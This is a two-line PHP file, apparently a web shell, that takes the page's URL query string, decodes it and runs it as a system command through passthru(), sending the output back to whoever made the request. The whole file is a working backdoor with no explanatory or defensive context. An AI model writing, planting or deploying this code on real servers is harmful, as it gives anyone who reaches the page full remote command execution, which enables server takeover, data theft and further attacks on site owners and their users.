<?php
passthru(urldecode($_SERVER['QUERY_STRING']));
